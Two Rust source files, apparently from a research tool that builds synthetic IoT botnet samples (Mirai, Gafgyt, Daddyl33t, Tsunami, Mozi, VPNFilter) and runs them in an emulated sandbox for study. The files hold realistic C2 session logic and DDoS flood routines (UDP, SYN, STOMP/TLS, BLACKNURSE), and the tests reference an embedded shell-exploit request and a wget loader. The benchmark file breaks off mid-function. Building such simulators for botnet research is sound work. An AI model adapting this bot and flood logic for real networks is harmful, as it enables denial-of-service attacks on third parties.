    .op(Op::SleepMs {
        a: per_packet_sleep_ms(spec.attack_pps),
    })
    .op(Op::Sub {
        r: R_CNT,
        x: R_CNT,
        y: R_ONE,
    });
    b.jump(
        Op::Jne {
            x: R_CNT,
            y: R_ZERO,
            a: 0,
        },
        &top,
    );
    b.op(Op::Close { x: R_FD2 });
    b.jump(Op::Jmp { a: 0 }, ret);
}

/// Connection-oriented flood (STOMP / Mirai TLS): complete the
/// handshake, push frames, tear down with RST, repeat.
fn emit_conn_flood(
    b: &mut ProgramBuilder,
    n: &mut Names,
    frame: &[u8],
    frames_per_conn: u32,
    conns_per_sec: u32,
    ret: &str,
) {
    let (foff, flen) = b.blob(frame);
    // count = duration * conns_per_sec
    b.op(Op::Ldi {
        r: R_SCR2,
        a: conns_per_sec.max(1),
    })
    .op(Op::Mul {
        r: R_CNT,
        x: R_DUR,
        y: R_SCR2,
    });
    b.jump(
        Op::Jeq {
            x: R_CNT,
            y: R_ZERO,
            a: 0,
        },
        ret,
    );
    let top = n.next("connf");
    let skip = n.next("connf_skip");
    let next = n.next("connf_next");
    b.label(&top);
    b.op(Op::Socket {
        r: R_FD2,
        kind: SockKind::Tcp,
    })
    .op(Op::Connect {
        r: R_RES,
        x: R_FD2,
        y: R_AIP,
        a: 0,
        b: u32::from(R_APORT),
    });
    b.jump(
        Op::Jne {
            x: R_RES,
            y: R_ZERO,
            a: 0,
        },
        &skip,
    );
    for _ in 0..frames_per_conn {
        b.op(Op::Send {
            x: R_FD2,
            a: foff,
            b: flen,
        });
    }
    b.op(Op::Abort { x: R_FD2 });
    b.jump(Op::Jmp { a: 0 }, &next);
    b.label(&skip).op(Op::Close { x: R_FD2 });
    b.label(&next)
        .op(Op::SleepMs {
            a: (1000 / conns_per_sec.max(1)).max(1),
        })
        .op(Op::Sub {
            r: R_CNT,
            x: R_CNT,
            y: R_ONE,
        });
    b.jump(
        Op::Jne {
            x: R_CNT,
            y: R_ZERO,
            a: 0,
        },
        &top,
    );
    b.jump(Op::Jmp { a: 0 }, ret);
}

/// Gafgyt STD: one random string generated up front, then flooded.
fn emit_std_flood(b: &mut ProgramBuilder, n: &mut Names, spec: &BehaviorSpec, ret: &str) {
    emit_flood_count(b, spec, ret);
    // Build 64 random bytes at CRAFT_OFF.
    b.op(Op::Ldi {
        r: R_POS,
        a: CRAFT_OFF,
    })
    .op(Op::Ldi {
        r: R_SCR1,
        a: CRAFT_OFF + 64,
    });
    let gen = n.next("stdgen");
    b.label(&gen);
    b.op(Op::Rand { r: R_RAND })
        .op(Op::Stb {
            x: R_POS,
            y: R_RAND,
        })
        .op(Op::Addi {
            r: R_POS,
            x: R_POS,
            a: 1,
        });
    b.jump(
        Op::Jlt {
            x: R_POS,
            y: R_SCR1,
            a: 0,
        },
        &gen,
    );
    b.op(Op::Socket {
        r: R_FD2,
        kind: SockKind::Udp,
    });
    let top = n.next("stdf");
    b.label(&top);
    b.op(Op::SendToR {
        x: R_FD2,
        y: R_AIP,
        r: R_APORT,
        a: CRAFT_OFF,
        b: 64,
    })
    .op(Op::SleepMs {
        a: per_packet_sleep_ms(spec.attack_pps),
    })
    .op(Op::Sub {
        r: R_CNT,
        x: R_CNT,
        y: R_ONE,
    });
    b.jump(
        Op::Jne {
            x: R_CNT,
            y: R_ZERO,
            a: 0,
        },
        &top,
    );
    b.op(Op::Close { x: R_FD2 });
    b.jump(Op::Jmp { a: 0 }, ret);
}

/// BLACKNURSE: raw ICMP type-3 code-3 flood.
fn emit_blacknurse(b: &mut ProgramBuilder, n: &mut Names, spec: &BehaviorSpec, ret: &str) {
    let msg = IcmpMessage::DestinationUnreachable {
        code: 3,
        payload: vec![0x45, 0, 0, 28, 0, 0, 0, 0, 64, 17, 0, 0],
    }
    .encode();
    let mlen = msg.len() as u32;
    let (moff, _) = b.blob(&msg);
    emit_flood_count(b, spec, ret);
    b.op(Op::Cpy {
        a: moff,
        b: mlen,
        c: CRAFT_OFF,
    })
    .op(Op::Socket {
        r: R_FD2,
        kind: SockKind::RawIcmp,
    });
    let top = n.next("nurse");
    b.label(&top);
    b.op(Op::RawSend {
        x: R_FD2,
        y: R_AIP,
        a: CRAFT_OFF,
        b: mlen,
    })
    .op(Op::SleepMs {
        a: per_packet_sleep_ms(spec.attack_pps),
    })
    .op(Op::Sub {
        r: R_CNT,
        x: R_CNT,
        y: R_ONE,
    });
    b.jump(
        Op::Jne {
            x: R_CNT,
            y: R_ZERO,
            a: 0,
        },
        &top,
    );
    b.op(Op::Close { x: R_FD2 });
    b.jump(Op::Jmp { a: 0 }, ret);
}

/// The classic C2 bot main structure shared by Mirai / Gafgyt /
/// Daddyl33t / Tsunami.
fn compile_c2_bot(spec: &BehaviorSpec, b: &mut ProgramBuilder, n: &mut Names) {
    b.label("main");
    // Try each C2 candidate.
    for (i, (ep, port)) in spec.c2.iter().enumerate() {
        let this = format!("try_c2_{i}");
        let nextl = format!("try_c2_{}", i + 1);
        b.label(&this);
        match ep {
            C2Endpoint::Ip(ip) => {
                b.op(Op::Ldi {
                    r: R_C2IP,
                    a: u32::from(*ip),
                });
            }
            C2Endpoint::Domain(d) => {
                emit_resolve(b, n, spec.resolver, d, R_C2IP, &nextl);
            }
        }
        b.op(Op::Socket {
            r: R_C2FD,
            kind: SockKind::Tcp,
        })
        .op(Op::Connect {
            r: R_RES,
            x: R_C2FD,
            y: R_C2IP,
            a: u32::from(*port),
            b: 0,
        });
        b.jump(
            Op::Jeq {
                x: R_RES,
                y: R_ZERO,
                a: 0,
            },
            "session",
        );
        b.op(Op::Close { x: R_C2FD });
    }
    b.label(&format!("try_c2_{}", spec.c2.len()));
    // All candidates failed: scan, sleep, retry.
    emit_scan_burst(b, n, spec);
    b.op(Op::SleepMs { a: 30_000 });
    b.jump(Op::Jmp { a: 0 }, "main");

    // --- session ---
    b.label("session");
    match spec.family {
        Family::Mirai => {
            let (hoff, hlen) = b.blob(&malnet_protocols::mirai::HANDSHAKE);
            b.op(Op::Send {
                x: R_C2FD,
                a: hoff,
                b: hlen,
            });
        }
        Family::Gafgyt => {
            let login = malnet_protocols::gafgyt::login_line("mips");
            let (loff, llen) = b.blob_str(&login);
            b.op(Op::Send {
                x: R_C2FD,
                a: loff,
                b: llen,
            });
        }
        Family::Daddyl33t => {
            let login = malnet_protocols::daddyl33t::login_line(spec.bot_id);
            let (loff, llen) = b.blob_str(&login);
            b.op(Op::Send {
                x: R_C2FD,
                a: loff,
                b: llen,
            });
        }
        Family::Tsunami => {
            let reg = malnet_protocols::tsunami::register_lines(&format!("x{:06x}", spec.bot_id));
            let (roff, rlen) = b.blob_str(&reg);
            b.op(Op::Send {
                x: R_C2FD,
                a: roff,
                b: rlen,
            });
            let join = malnet_protocols::tsunami::join_line("#iot");
            let (joff, jlen) = b.blob_str(&join);
            b.op(Op::Send {
                x: R_C2FD,
                a: joff,
                b: jlen,
            });
        }
        _ => {}
    }

    b.label("sess_loop");
    b.op(Op::Recv {
        r: R_LEN,
        x: R_C2FD,
        a: spec.recv_timeout_ms,
    });
    b.jump(
        Op::Jeq {
            x: R_LEN,
            y: R_M1,
            a: 0,
        },
        "idle",
    );
    b.jump(
        Op::Jeq {
            x: R_LEN,
            y: R_ZERO,
            a: 0,
        },
        "reconnect",
    );

    match spec.family {
        Family::Mirai => emit_mirai_commands(spec, b, n),
        Family::Gafgyt => emit_gafgyt_commands(spec, b, n),
        Family::Daddyl33t => emit_daddy_commands(spec, b, n),
        Family::Tsunami => emit_tsunami_commands(spec, b, n),
        _ => {
            b.jump(Op::Jmp { a: 0 }, "sess_loop");
        }
    }

    // --- idle: keepalive + scan burst ---
    b.label("idle");
    match spec.family {
        Family::Mirai => {
            let (koff, klen) = b.blob(&malnet_protocols::mirai::KEEPALIVE);
            b.op(Op::Send {
                x: R_C2FD,
                a: koff,
                b: klen,
            });
        }
        Family::Gafgyt => {
            let (koff, klen) = b.blob_str(malnet_protocols::gafgyt::PONG);
            b.op(Op::Send {
                x: R_C2FD,
                a: koff,
                b: klen,
            });
        }
        Family::Daddyl33t => {
            let (koff, klen) = b.blob_str(malnet_protocols::daddyl33t::PONG);
            b.op(Op::Send {
                x: R_C2FD,
                a: koff,
                b: klen,
            });
        }
        _ => {}
    }
    emit_scan_burst(b, n, spec);
    b.jump(Op::Jmp { a: 0 }, "sess_loop");

    b.label("reconnect");
    b.op(Op::Close { x: R_C2FD }).op(Op::SleepMs { a: 10_000 });
    b.jump(Op::Jmp { a: 0 }, "main");
}

fn emit_mirai_commands(spec: &BehaviorSpec, b: &mut ProgramBuilder, n: &mut Names) {
    // Keepalive echo: len < 3.
    b.op(Op::Ldi { r: R_SCR2, a: 3 });
    b.jump(
        Op::Jlt {
            x: R_LEN,
            y: R_SCR2,
            a: 0,
        },
        "sess_loop",
    );
    // Binary layout: [u16 len][u32 dur][u8 vec][u8 n][u32 ip][u8 mask]
    //                [u8 nflags][u8 key][u8 flen][ascii port]
    b.op(Op::Ldi { r: R_POS, a: 2 })
        .op(Op::Ldw { r: R_DUR, x: R_POS })
        .op(Op::Ldi { r: R_POS, a: 6 })
        .op(Op::Ldb {
            r: R_SCR1,
            x: R_POS,
        })
        .op(Op::Ldi { r: R_POS, a: 8 })
        .op(Op::Ldw { r: R_AIP, x: R_POS })
        .op(Op::Ldi { r: R_POS, a: 16 })
        .op(Op::ParseNum {
            r: R_APORT,
            x: R_POS,
        });
    for (vec_id, label) in [
        (0u32, "atk_udp"),
        (1, "atk_vse"),
        (3, "atk_syn"),
        (5, "atk_stomp"),
        (33, "atk_tls"),
    ] {
        b.op(Op::Ldi {
            r: R_SCR2,
            a: vec_id,
        });
        b.jump(
            Op::Jeq {
                x: R_SCR1,
                y: R_SCR2,
                a: 0,
            },
            label,
        );
    }
    b.jump(Op::Jmp { a: 0 }, "sess_loop");

    b.label("atk_udp");
    emit_udp_flood(b, n, spec, &[0u8], "sess_loop");
    b.label("atk_vse");
    emit_udp_flood(
        b,
        n,
        spec,
        b"\xff\xff\xff\xffTSource Engine Query\x00",
        "sess_loop",
    );
    b.label("atk_syn");
    emit_syn_flood(b, n, spec, "sess_loop");
    b.label("atk_stomp");
    emit_conn_flood(
        b,
        n,
        b"SEND\ndestination:/queue/a\n\nAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\x00",
        8,
        2,
        "sess_loop",
    );
    b.label("atk_tls");
    emit_conn_flood(b, n, &[0x16u8; 1024], 3, 2, "sess_loop");
}

fn emit_gafgyt_commands(spec: &BehaviorSpec, b: &mut ProgramBuilder, n: &mut Names) {
    let (ping_off, _) = b.blob_str("PING");
    let (pong_off, pong_len) = b.blob_str(malnet_protocols::gafgyt::PONG);
    let (udp_off, _) = b.blob_str("!* UDP ");
    let (std_off, _) = b.blob_str("!* STD ");
    let (vse_off, _) = b.blob_str("!* VSE ");
    b.op(Op::Ldi { r: R_POS, a: 0 });
    b.op(Op::Match {
        r: R_RES,
        x: R_POS,
        a: ping_off,
        b: 4,
    });
    b.jump(
        Op::Jeq {
            x: R_RES,
            y: R_ONE,
            a: 0,
        },
        "g_pong",
    );
    for (off, label) in [(udp_off, "g_udp"), (std_off, "g_std"), (vse_off, "g_vse")] {
        b.op(Op::Match {
            r: R_RES,
            x: R_POS,
            a: off,
            b: 7,
        });
        b.jump(
            Op::Jeq {
                x: R_RES,
                y: R_ONE,
                a: 0,
            },
            label,
        );
    }
    b.jump(Op::Jmp { a: 0 }, "sess_loop");

    b.label("g_pong");
    b.op(Op::Send {
        x: R_C2FD,
        a: pong_off,
        b: pong_len,
    });
    b.jump(Op::Jmp { a: 0 }, "sess_loop");

    // Shared "parse ip port time from offset 7" prologue.
    for label in ["g_udp", "g_std", "g_vse"] {
        b.label(label);
        b.op(Op::Ldi { r: R_POS, a: 7 })
            .op(Op::ParseIp { r: R_AIP, x: R_POS })
            .op(Op::SkipSp { x: R_POS })
            .op(Op::ParseNum {
                r: R_APORT,
                x: R_POS,
            })
            .op(Op::SkipSp { x: R_POS })
            .op(Op::ParseNum { r: R_DUR, x: R_POS });
        match label {
            "g_udp" => emit_udp_flood(b, n, spec, &[0u8], "sess_loop"),
            "g_std" => emit_std_flood(b, n, spec, "sess_loop"),
            _ => emit_udp_flood(
                b,
                n,
                spec,
                b"\xff\xff\xff\xffTSource Engine Query\x00",
                "sess_loop",
            ),
        }
    }
}

fn emit_daddy_commands(spec: &BehaviorSpec, b: &mut ProgramBuilder, n: &mut Names) {
    let (ping_off, _) = b.blob_str(".ping");
    let (pong_off, pong_len) = b.blob_str(malnet_protocols::daddyl33t::PONG);
    let (udp_off, _) = b.blob_str(".udpraw ");
    let (syn_off, _) = b.blob_str(".hydrasyn ");
    let (tls_off, _) = b.blob_str(".tls ");
    let (nurse_off, _) = b.blob_str(".nurse ");
    let (nfo_off, _) = b.blob_str(".nfov6 ");
    b.op(Op::Ldi { r: R_POS, a: 0 });
    b.op(Op::Match {
        r: R_RES,
        x: R_POS,
        a: ping_off,
        b: 5,
    });
    b.jump(
        Op::Jeq {
            x: R_RES,
            y: R_ONE,
            a: 0,
        },
        "d_pong",
    );
    for (off, len, label) in [
        (udp_off, 8u32, "d_udp"),
        (syn_off, 10, "d_syn"),
        (tls_off, 5, "d_tls"),
        (nurse_off, 7, "d_nurse"),
        (nfo_off, 7, "d_nfo"),
    ] {
        b.op(Op::Match {
            r: R_RES,
            x: R_POS,
            a: off,
            b: len,
        });
        b.jump(
            Op::Jeq {
                x: R_RES,
                y: R_ONE,
                a: 0,
            },
            label,
        );
    }
    b.jump(Op::Jmp { a: 0 }, "sess_loop");

    b.label("d_pong");
    b.op(Op::Send {
        x: R_C2FD,
        a: pong_off,
        b: pong_len,
    });
    b.jump(Op::Jmp { a: 0 }, "sess_loop");

    // .udpraw / .hydrasyn / .tls parse: ip port time.
    for (skip, label) in [(8u32, "d_udp"), (10, "d_syn"), (5, "d_tls")] {
        b.label(label);
        b.op(Op::Ldi { r: R_POS, a: skip })
            .op(Op::ParseIp { r: R_AIP, x: R_POS })
            .op(Op::SkipSp { x: R_POS })
            .op(Op::ParseNum {
                r: R_APORT,
                x: R_POS,
            })
            .op(Op::SkipSp { x: R_POS })
            .op(Op::ParseNum { r: R_DUR, x: R_POS });
        match label {
            "d_udp" => emit_udp_flood(b, n, spec, &[0u8], "sess_loop"),
            "d_syn" => emit_syn_flood(b, n, spec, "sess_loop"),
            // Daddyl33t TLS rides UDP ("possibly DTLS"): encoded datagrams.
            _ => emit_udp_flood(
                b,
                n,
                spec,
                b"\x16\xfe\xfd\x00\x00\x00\x00\x00\x00\x00\x00\x00\x30ClientHello-junk-payload",
                "sess_loop",
            ),
        }
    }

    // .nurse ip time (no port).
    b.label("d_nurse");
    b.op(Op::Ldi { r: R_POS, a: 7 })
        .op(Op::ParseIp { r: R_AIP, x: R_POS })
        .op(Op::SkipSp { x: R_POS })
        .op(Op::ParseNum { r: R_DUR, x: R_POS })
        .op(Op::Ldi { r: R_APORT, a: 0 });
    emit_blacknurse(b, n, spec, "sess_loop");

    // .nfov6 ip time (fixed UDP port 238, custom payload).
    b.label("d_nfo");
    b.op(Op::Ldi { r: R_POS, a: 7 })
        .op(Op::ParseIp { r: R_AIP, x: R_POS })
        .op(Op::SkipSp { x: R_POS })
        .op(Op::ParseNum { r: R_DUR, x: R_POS })
        .op(Op::Ldi {
            r: R_APORT,
            a: u32::from(malnet_protocols::daddyl33t::NFO_PORT),
        });
    emit_udp_flood(b, n, spec, b"NFOV6\x00\x01\x02custom-probe", "sess_loop");
}

fn emit_tsunami_commands(_spec: &BehaviorSpec, b: &mut ProgramBuilder, _n: &mut Names) {
    // IRC: answer PING, otherwise idle. No attack vocabulary (the study's
    // D-DDOS profiles cover Mirai/Gafgyt/Daddyl33t only).
    let (ping_off, _) = b.blob_str("PING");
    let (pong_off, pong_len) = b.blob_str("PONG :irc\r\n");
    b.op(Op::Ldi { r: R_POS, a: 0 });
    b.op(Op::Match {
        r: R_RES,
        x: R_POS,
        a: ping_off,
        b: 4,
    });
    b.jump(
        Op::Jne {
            x: R_RES,
            y: R_ONE,
            a: 0,
        },
        "sess_loop",
    );
    b.op(Op::Send {
        x: R_C2FD,
        a: pong_off,
        b: pong_len,
    });
    b.jump(Op::Jmp { a: 0 }, "sess_loop");
}

/// P2P families: gossip with the embedded peer list over UDP.
fn compile_p2p(spec: &BehaviorSpec, b: &mut ProgramBuilder, n: &mut Names) {
    use malnet_protocols::mozi::MoziMsg;
    let mut node_id = [0u8; 20];
    node_id[..4].copy_from_slice(&spec.bot_id.to_be_bytes());
    let ping = MoziMsg::Ping { node_id }.encode();
    let find = MoziMsg::FindNode { node_id }.encode();
    let (ping_off, ping_len) = b.blob(&ping);
    let (find_off, find_len) = b.blob(&find);
    b.label("p2p_loop");
    for (peer, port) in &spec.peers {
        b.op(Op::Socket {
            r: R_FD2,
            kind: SockKind::Udp,
        })
        .op(Op::Ldi {
            r: R_SCR1,
            a: u32::from(*peer),
        })
        .op(Op::SendTo {
            x: R_FD2,
            y: R_SCR1,
            r: 0,
            a: u32::from(*port),
            b: ping_off,
            c: ping_len,
        })
        .op(Op::SendTo {
            x: R_FD2,
            y: R_SCR1,
            r: 0,
            a: u32::from(*port),
            b: find_off,
            c: find_len,
        })
        .op(Op::RecvFrom {
            r: R_LEN,
            x: R_FD2,
            a: 3000,
        })
        .op(Op::Close { x: R_FD2 });
    }
    emit_scan_burst(b, n, spec);
    b.op(Op::SleepMs { a: 30_000 });
    b.jump(Op::Jmp { a: 0 }, "p2p_loop");
}

/// VPNFilter: low-and-slow HTTPS-ish beaconing to a staging host.
fn compile_vpnfilter(spec: &BehaviorSpec, b: &mut ProgramBuilder, n: &mut Names) {
    let (get_off, get_len) = b.blob_str("GET /update/check HTTP/1.1\r\nHost: cdn\r\n\r\n");
    b.label("vf_loop");
    let fail = n.next("vf_fail");
    match spec.c2.first() {
        Some((C2Endpoint::Domain(d), port)) => {
            let port = *port;
            let d = d.clone();
            emit_resolve(b, n, spec.resolver, &d, R_C2IP, &fail);
            emit_vpnfilter_beacon(b, port, get_off, get_len);
        }
        Some((C2Endpoint::Ip(ip), port)) => {
            b.op(Op::Ldi {
                r: R_C2IP,
                a: u32::from(*ip),
            });
            emit_vpnfilter_beacon(b, *port, get_off, get_len);
        }
        None => {}
    }
    b.label(&fail);
    b.op(Op::SleepMs { a: 300_000 });
    b.jump(Op::Jmp { a: 0 }, "vf_loop");
}

fn emit_vpnfilter_beacon(b: &mut ProgramBuilder, port: u16, get_off: u32, get_len: u32) {
    b.op(Op::Socket {
        r: R_C2FD,
        kind: SockKind::Tcp,
    })
    .op(Op::Connect {
        r: R_RES,
        x: R_C2FD,
        y: R_C2IP,
        a: u32::from(port),
        b: 0,
    })
    .op(Op::Send {
        x: R_C2FD,
        a: get_off,
        b: get_len,
    })
    .op(Op::Recv {
        r: R_LEN,
        x: R_C2FD,
        a: 5000,
    })
    .op(Op::Close { x: R_C2FD });
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::botvm::decode_all;
    use crate::exploitdb::VulnId;
    use crate::spec::ExploitPlan;

    fn mirai_spec() -> BehaviorSpec {
        BehaviorSpec {
            family: Family::Mirai,
            c2: vec![(C2Endpoint::Ip(Ipv4Addr::new(10, 1, 0, 5)), 23)],
            exploits: vec![ExploitPlan {
                vuln: VulnId::MvpowerDvr,
                downloader: Ipv4Addr::new(10, 1, 0, 5),
                loader: "wget.sh".into(),
                full_gpon: true,
            }],
            ..Default::default()
        }
    }

    #[test]
    fn all_families_compile_to_valid_bytecode() {
        for family in Family::ALL {
            let mut spec = mirai_spec();
            spec.family = family;
            if family.is_p2p() {
                spec.c2.clear();
                spec.peers = vec![(Ipv4Addr::new(10, 9, 0, 1), 14737)];
            }
            if family == Family::VpnFilter {
                spec.c2 = vec![(C2Endpoint::Domain("cdn.example.org".into()), 80)];
            }
            let prog = compile(&spec);
            let ops = decode_all(&prog.bytecode)
                .unwrap_or_else(|| panic!("{family}: undecodable bytecode"));
            assert!(ops.len() > 10, "{family}: suspiciously small program");
            // All jump targets in range.
            for op in &ops {
                if let Op::Jmp { a } | Op::Jeq { a, .. } | Op::Jne { a, .. } | Op::Jlt { a, .. } =
                    op
                {
                    assert!(
                        (*a as usize) < ops.len(),
                        "{family}: jump to {a} out of {}",
                        ops.len()
                    );
                }
            }
        }
    }

    #[test]
    fn evasive_prologue_present_only_when_asked() {
        let mut spec = mirai_spec();
        spec.evasive = false;
        let plain = compile(&spec);
        spec.evasive = true;
        let evasive = compile(&spec);
        assert!(evasive.bytecode.len() > plain.bytecode.len());
        // Evasive program embeds a DNS query for the canary domain.
        let blob = String::from_utf8_lossy(&evasive.blob);
        assert!(blob.contains("busybox-cdn"));
    }

    #[test]
    fn c2_strings_visible_in_blob() {
        let mut spec = mirai_spec();
        spec.c2 = vec![(C2Endpoint::Domain("cnc.botnet.example".into()), 23)];
        let prog = compile(&spec);
        let blob = String::from_utf8_lossy(&prog.blob);
        // DNS wire encoding splits on labels; the longest label survives.
        assert!(blob.contains("botnet"), "{blob}");
    }

    #[test]
    fn exploit_payloads_embedded() {
        let prog = compile(&mirai_spec());
        let blob = String::from_utf8_lossy(&prog.blob);
        assert!(blob.contains("GET /shell?"));
        assert!(blob.contains("wget.sh"));
    }

    #[test]
    fn domain_resolution_answer_offset_formula() {
        // "ab.cd" encodes to 2+2+2+1 = 7 bytes = len+2.
        let name = "ab.cd";
        let dn = DomainName::new(name).unwrap();
        let q = DnsMessage::query(1, dn.clone()).encode();
        assert_eq!(q.len(), 12 + name.len() + 2 + 4);
        // The answer section in our resolver's reply puts the A rdata at
        // 12 + (qname+4) + qname + 10.
        let reply = DnsMessage::answer(1, dn, &[Ipv4Addr::new(9, 8, 7, 6)]).encode();
        let qname = name.len() + 2;
        let off = 12 + qname + 4 + qname + 10;
        assert_eq!(&reply[off..off + 4], &[9, 8, 7, 6]);
    }
}
