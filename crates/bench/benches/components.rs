//! Performance benchmarks for every pipeline component.
//!
//! These measure the *implementation's* throughput (the substrate the
//! reproduction runs on), complementing the repro binaries which
//! regenerate the paper's measurement results. They run on the in-repo
//! [`malnet_bench::timing`] harness: `cargo bench --bench components`
//! measures; `cargo test` runs each bench once as a smoke test.

use std::net::Ipv4Addr;

use malnet_bench::timing::Harness;
use malnet_botgen::binary::emit_elf;
use malnet_botgen::exploitdb::VulnId;
use malnet_botgen::programs::compile;
use malnet_botgen::spec::{BehaviorSpec, C2Endpoint, ExploitPlan};
use malnet_botgen::world::{Calibration, World, WorldConfig};
use malnet_core::c2detect::detect_c2;
use malnet_core::{Pipeline, PipelineOpts};
use malnet_mips::asm::{Assembler, Ins, Reg};
use malnet_mips::block::ExecCache;
use malnet_mips::cpu::{Cpu, CpuError, STACK_SIZE, STACK_TOP};
use malnet_mips::mem::Memory;
use malnet_netsim::net::Network;
use malnet_netsim::time::{SimDuration, SimTime};
use malnet_sandbox::{Sandbox, SandboxConfig};
use malnet_wire::packet::Packet;
use malnet_wire::pcap;
use malnet_wire::tcp::TcpFlags;

fn bench_wire(h: &mut Harness) {
    let pkt = Packet::tcp(
        Ipv4Addr::new(10, 0, 0, 1),
        40000,
        Ipv4Addr::new(10, 0, 0, 2),
        23,
        1,
        2,
        TcpFlags::PSH_ACK,
        vec![0xAA; 512],
    );
    h.bench("wire/tcp_frame_encode", || pkt.encode_frame());
    let frame = pkt.encode_frame();
    h.bench("wire/tcp_frame_decode", || {
        Packet::decode_frame(std::hint::black_box(&frame)).unwrap()
    });
    let capture: Vec<(u64, Packet)> = (0..200).map(|i| (i * 1000, pkt.clone())).collect();
    let bytes = pcap::to_bytes(&capture);
    h.bench("wire/pcap_parse_200pkts", || {
        pcap::parse_capture(std::hint::black_box(&bytes)).unwrap()
    });
}

fn bench_mips(h: &mut Harness) {
    // A tight arithmetic loop: measures emulator instructions/second.
    // The same ~500k-retired-instruction program runs under both
    // engines; the per-op times and `instr_per_sec` fields make the
    // block-engine speedup directly readable, and `main` gates on it.
    let base = 0x0040_0000;
    let mut a = Assembler::new(base);
    a.ins(Ins::Li(Reg::T0, 0))
        .ins(Ins::Li(Reg::T1, 100_000))
        .label("loop")
        .ins(Ins::Addiu(Reg::T0, Reg::T0, 1))
        .ins(Ins::Addu(Reg::T2, Reg::T0, Reg::T0))
        .ins(Ins::Xor(Reg::T3, Reg::T2, Reg::T0))
        .ins(Ins::Bne(Reg::T0, Reg::T1, "loop".into()))
        .ins(Ins::Break);
    let code = a.assemble().unwrap();
    let fresh_mem = |code: &[u8]| {
        let mut mem = Memory::new();
        mem.map(base, code.to_vec(), false);
        mem.map_zeroed(STACK_TOP - STACK_SIZE, STACK_SIZE + 0x1000, true);
        mem
    };
    h.bench_batched_counted(
        "mips/emulate_500k_instr",
        || Cpu::new(fresh_mem(&code), base),
        |mut cpu| loop {
            match cpu.step() {
                Ok(_) => {}
                Err(CpuError::Break { .. }) => break cpu.retired,
                Err(e) => panic!("{e}"),
            }
        },
    );
    h.bench_batched_counted(
        "mips/block_exec_500k",
        || {
            let mut mem = fresh_mem(&code);
            let cache = ExecCache::for_entry(&mut mem, base).expect("text is cacheable");
            (Cpu::new(mem, base), cache)
        },
        |(mut cpu, mut cache)| loop {
            match cpu.run_cached(u64::MAX, &mut cache) {
                Ok(_) => {}
                Err(CpuError::Break { .. }) => break cpu.retired,
                Err(e) => panic!("{e}"),
            }
        },
    );
    h.bench("mips/assemble_stub", malnet_botgen::stub::build_stub);
}

fn sample_spec() -> BehaviorSpec {
    BehaviorSpec {
        c2: vec![(C2Endpoint::Ip(Ipv4Addr::new(10, 1, 0, 5)), 23)],
        exploits: vec![ExploitPlan {
            vuln: VulnId::Gpon10561,
            downloader: Ipv4Addr::new(10, 1, 0, 5),
            loader: "t8UsA2.sh".into(),
            full_gpon: true,
        }],
        recv_timeout_ms: 5000,
        ..Default::default()
    }
}

fn bench_botgen(h: &mut Harness) {
    let spec = sample_spec();
    h.bench("botgen/compile_and_emit_elf", || {
        emit_elf(&compile(std::hint::black_box(&spec)), b"bench")
    });
    h.bench("botgen/world_generate_100", || {
        World::generate(WorldConfig {
            seed: 1,
            n_samples: 100,
            cal: Calibration::default(),
        })
    });
}

fn bench_sandbox(h: &mut Harness) {
    let elf = emit_elf(&compile(&sample_spec()), b"bench");
    h.bench("sandbox/contained_60s_run", || {
        let mut sb = Sandbox::new(
            Network::new(SimTime::EPOCH, 1),
            SandboxConfig {
                handshaker_threshold: Some(5),
                ..Default::default()
            },
        );
        sb.execute(std::hint::black_box(&elf), SimDuration::from_secs(60))
    });
    // C2 detection over a real capture.
    let mut sb = Sandbox::new(
        Network::new(SimTime::EPOCH, 1),
        SandboxConfig {
            handshaker_threshold: Some(5),
            ..Default::default()
        },
    );
    let art = sb.execute(&elf, SimDuration::from_secs(120));
    h.bench("core/c2detect_on_capture", || {
        detect_c2(std::hint::black_box(&art), Ipv4Addr::new(100, 64, 0, 2))
    });
}

fn bench_pipeline(h: &mut Harness) {
    let world = World::generate(WorldConfig {
        seed: 3,
        n_samples: 10,
        cal: Calibration::default(),
    });
    h.bench("pipeline/ten_sample_study", || {
        let opts = PipelineOpts {
            max_samples: Some(10),
            run_probing: false,
            ..PipelineOpts::fast()
        };
        Pipeline::new(opts).run(std::hint::black_box(&world))
    });
}

/// The telemetry hot path must be close to free when disabled (a branch
/// on an `Option` discriminant) and cheap when enabled (one relaxed
/// atomic add). These rows are the evidence behind the claim in
/// DESIGN.md §8's telemetry section.
fn bench_telemetry(h: &mut Harness) {
    use malnet_telemetry::Telemetry;
    // The bodies loop 1024× so one iteration is long enough to time;
    // `bench_scaled` divides by the trip count, so these rows read
    // per-*add* (the disabled row must be provably sub-10 ns — `main`
    // gates on it).
    let off = Telemetry::disabled().counter("bench.counter");
    h.bench_scaled("telemetry/counter_add_disabled", 1024, || {
        for _ in 0..1024 {
            std::hint::black_box(&off).add(1);
        }
    });
    let tel = Telemetry::enabled();
    let on = tel.counter("bench.counter");
    h.bench_scaled("telemetry/counter_add_enabled", 1024, || {
        for _ in 0..1024 {
            std::hint::black_box(&on).add(1);
        }
    });
    let hist = tel.histogram("bench.histogram");
    h.bench_scaled("telemetry/histogram_record", 1024, || {
        for v in 0..1024u64 {
            std::hint::black_box(&hist).record(v);
        }
    });
    h.bench("telemetry/span_enter_exit", || {
        let _g = std::hint::black_box(&tel).span("bench.span");
    });
    let pipeline_tel = Telemetry::enabled();
    let world = World::generate(WorldConfig {
        seed: 3,
        n_samples: 10,
        cal: Calibration::default(),
    });
    h.bench("telemetry/ten_sample_study_instrumented", || {
        let opts = PipelineOpts {
            max_samples: Some(10),
            run_probing: false,
            ..PipelineOpts::fast()
        };
        Pipeline::with_telemetry(opts, pipeline_tel.clone()).run(std::hint::black_box(&world))
    });
}

fn main() {
    let mut h = Harness::from_args();
    bench_wire(&mut h);
    bench_mips(&mut h);
    bench_botgen(&mut h);
    bench_sandbox(&mut h);
    bench_pipeline(&mut h);
    bench_telemetry(&mut h);

    // Regression gates (measured runs only; a gate is skipped if
    // `--filter` excluded its rows).
    let mut failures = Vec::new();
    if let (Some(legacy), Some(block)) = (
        h.median_ns_per_op("mips/emulate_500k_instr"),
        h.median_ns_per_op("mips/block_exec_500k"),
    ) {
        let speedup = legacy / block;
        h.record_derived("mips.block_speedup", speedup);
        if speedup < 3.0 {
            failures.push(format!(
                "block-engine speedup {speedup:.2}x over the stepping \
                 interpreter is below the 3x regression gate"
            ));
        }
    }
    if let Some(ns) = h.median_ns_per_op("telemetry/counter_add_disabled") {
        if ns > 10.0 {
            failures.push(format!(
                "disabled telemetry counter costs {ns:.2} ns per add (gate: 10 ns)"
            ));
        }
    }

    h.report();
